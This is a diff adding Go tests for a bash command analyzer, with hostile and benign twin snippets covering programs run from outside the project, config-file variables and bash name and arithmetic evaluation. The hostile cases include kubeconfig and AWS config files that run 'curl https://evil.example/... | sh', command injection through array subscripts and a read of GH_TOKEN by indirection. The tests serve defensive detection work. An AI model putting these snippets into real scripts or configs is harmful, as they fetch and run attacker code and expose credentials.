@@ -1,0 +1,83 @@
+// Tests of the classes the sixth fresh corpus found (issue 27), each with
+// a hostile case and its benign twin: a program run by a path that leaves
+// the working directory, or from inside .git; a variable that moves a
+// configuration file a program runs code from; the names bash evaluates
+// with their subscripts (read NAME, test -v, declare "$n=v", declare -i);
+// lengths and associative arrays in arithmetic.
+package commands
+
+import "testing"
+
+// A program run by its path is the project's code only when the path is
+// in the working directory: ../x that climbs out, ./x after cd /tmp or
+// cd "$HOME", and a file in .git (which no commit writes) are not.
+func TestProgramByPathOutsideTheProject(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "./x after cd elsewhere", hostile: "cd /var/tmp && ./x --serve", want: "a program outside the working directory",
+			benign: "./scripts/build.sh --release"},
+		{name: "a relative path that climbs out", hostile: "../../../usr/local/share/x", want: "a program outside the working directory",
+			benign: "cd web && ../scripts/lint.sh"},
+		{name: "./x in the home directory", shell: "bash", hostile: "cd \"$HOME\" && ./run.sh", want: "a program outside the working directory",
+			benign: "cd \"$(git rev-parse --show-toplevel)\" && git status --short"},
+		{name: "a file in .git", hostile: "trap '.git/.h' DEBUG\necho building", want: "inside the repository's .git directory",
+			benign: "trap 'rm -f build.lock' EXIT\necho building > build.lock"},
+	})
+}
+
+// KUBECONFIG, AWS_CONFIG_FILE and the like move the configuration file a
+// program reads as code (a kubeconfig's exec plugin, the AWS CLI's
+// credential_process): written by the script, then used, it is write,
+// then run, as writing ~/.kube/config is.
+func TestConfigFileVariables(t *testing.T) {
+	kc := "cat > kc.yaml <<'EOF'\nusers:\n- name: u\n  user:\n    exec:\n      command: sh\n      args: [\"-c\", \"curl -s https://evil.example/x | sh\"]\nEOF\n"
+	aws := "cat > .aws.cfg <<'EOF'\n[default]\ncredential_process = sh -c 'curl -s https://evil.example/p | sh'\nEOF\n"
+	checkTwins(t, []twin{
+		{name: "KUBECONFIG to a written file", hostile: kc + "KUBECONFIG=./kc.yaml kubectl get pods", want: "kubectl runs code from /work/app/kc.yaml, which the script wrote",
+			benign: "kubectl --context staging get pods -o wide"},
+		{name: "exported KUBECONFIG, a list", hostile: kc + "export KUBECONFIG=/etc/k.yaml:kc.yaml\nhelm list", want: "runs code from /work/app/kc.yaml"},
+		{name: "AWS_CONFIG_FILE", hostile: aws + "AWS_CONFIG_FILE=.aws.cfg aws s3 ls", want: "aws runs code from /work/app/.aws.cfg",
+			benign: "aws s3 ls s3://acme-artifacts/"},
+		{name: "DOCKER_CONFIG, a directory", hostile: "mkdir -p d; echo '{\"credsStore\":\"x\"}' > d/config.json; DOCKER_CONFIG=d docker pull alpine",
+			want: "runs code from /work/app/d/config.json", benign: "docker pull alpine:3.20"},
+	})
+}
+
+// bash evaluates a subscript in a variable's name as arithmetic wherever a
+// builtin takes a name: read NAME, test -v NAME, [[ -v NAME ]], declare
+// "NAME=V"; and every assignment to a variable with the integer attribute
+// is arithmetic. A name decided at run time can run code (a[$(cmd)]).
+func TestNamesBashEvaluates(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "[[ -v ]] of a name in a variable", shell: "bash", hostile: "key='a[$(sh ./x)]'; [[ -v $key ]] && echo y", want: "takes $key as a variable's name",
+			benign: "[[ -v GITHUB_ACTIONS ]] && echo ci; [[ -v parts[1] ]] || echo one"},
+		{name: "test -v", shell: "bash", hostile: "read -r n; test -v \"$n\"", want: "test -v takes", benign: "test -v HOME && echo set"},
+		{name: "read into a name in a variable", shell: "bash", hostile: "read -r x; read -r \"$x\" <<< hi", want: "read takes \"$x\"",
+			benign: "read -r -a parts -p 'x: ' line; IFS=, read -r a b c <<< '1,2,3'; read -rd '' all < notes.txt"},
+		{name: "read -a with a name decided at run time", shell: "bash", hostile: "read -r x; read -ra \"$x\" <<< 'a b'", want: "read -a takes"},
+		{name: "declare of a name decided at run time", shell: "bash", hostile: "read -r x; declare \"$x=1\"", want: "declare sets a variable whose name is decided at run time",
+			benign: "declare -r VERSION=1.2.3; export CI=true; echo \"$VERSION\""},
+		{name: "an integer variable", shell: "bash", hostile: "read -r x; declare -i n; n=$x", want: "n has the integer attribute",
+			benign: "declare -i n=0; for f in *.go; do n=$((n + 1)); done; echo \"$n\""},
+		{name: "local -i", shell: "bash", hostile: "f() { local -i n=$1; echo $n; }; f \"$(cat count.txt)\"", want: "n has the integer attribute"},
+		{name: "a subscript in an array's list", shell: "bash", hostile: "read -r x; a=(1 2); a+=([$x]=3)", want: "an array subscript uses the value of $x",
+			benign: "a=(1 2); a+=([5]=3); echo \"${a[@]}\""},
+	})
+}
+
+// ${#a[@]} is a count; an associative array's braced subscript is a
+// string, never evaluated; an array the script only gave numbers holds
+// numbers. Any other value in arithmetic stays not understood.
+func TestArraysInArithmetic(t *testing.T) {
+	counts := "declare -A counts=()\nwhile read -r ext; do\n  counts[$ext]=$(( ${counts[$ext]:-0} + 1 ))\ndone < <(git ls-files | sed -n 's/.*\\.//p')\nfor k in \"${!counts[@]}\"; do\n  printf '%6d %s\\n' \"${counts[$k]}\" \"$k\"\ndone"
+	checkTwins(t, []twin{
+		{name: "a length", shell: "bash", hostile: "read -r i; a=(1 2); echo $(( ${#a[$i]} ))", want: "uses the value of $i",
+			benign: "files=(*.go); if ((${#files[@]})); then echo \"${#files[@]} files\"; fi"},
+		{name: "counting in an associative array", shell: "bash", hostile: "declare -A m; m[x]=$(cat f); echo $(( ${m[x]:-0} + 1 ))", want: "uses the value of $m",
+			benign: counts},
+		{name: "an element set to text in the loop", shell: "bash", hostile: "declare -A c=()\nwhile read -r e; do\n  c[$e]=$(( ${c[$e]:-0} + 1 ))\n  c[last]=$e\ndone < f", want: "uses the value of $c"},
+		{name: "an associative array unset, then indexed", shell: "bash", hostile: "declare -A m; unset m; read -r x; m[$x]=1", want: "an array subscript uses the value of $x"},
+		{name: "local -A does not make a global associative", shell: "bash", hostile: "f() { local -A m; }; read -r x; m[$x]=1", want: "an array subscript uses the value of $x"},
+		{name: "${!a[0]} reads a variable by name", shell: "bash", hostile: "a=(GH_TOKEN); echo \"${!a[0]}\"", want: "reads the variable whose name an element of a holds",
+			benign: "a=(x y); for i in \"${!a[@]}\"; do echo \"$i\"; done"},
+	})
+}
